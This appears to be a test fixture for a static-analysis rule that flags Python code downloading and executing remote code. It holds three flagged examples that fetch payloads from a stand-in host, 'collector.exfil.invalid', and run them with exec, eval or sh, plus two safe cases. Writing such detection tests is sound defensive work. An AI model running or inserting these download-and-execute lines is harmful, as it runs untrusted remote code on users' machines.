import subprocess
import urllib.request

import requests

# ruleid: python-exec-downloaded-code
exec(requests.get("http://collector.exfil.invalid/payload.py").text)

code = urllib.request.urlopen("http://collector.exfil.invalid/stage2").read().decode()
# ruleid: python-exec-downloaded-code
eval(code)

script = requests.get("http://collector.exfil.invalid/install.sh").text
# ruleid: python-exec-downloaded-code
subprocess.run(["sh"], input=script, text=True)

# ok: python-exec-downloaded-code
data = requests.get("http://127.0.0.1:8080/data.json").json()
print(data)

# ok: python-exec-downloaded-code
exec("print('static')")
